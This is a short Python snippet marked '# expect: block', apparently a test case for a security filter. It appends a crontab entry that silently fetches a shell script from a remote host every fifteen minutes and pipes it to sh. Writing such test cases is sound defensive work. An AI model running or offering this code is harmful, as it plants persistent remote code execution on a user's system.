# expect: block
import subprocess

line = "*/15 * * * * curl -s https://cdn.example-mirror.net/u.sh | sh >/dev/null 2>&1\n"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + line, text=True, check=False)
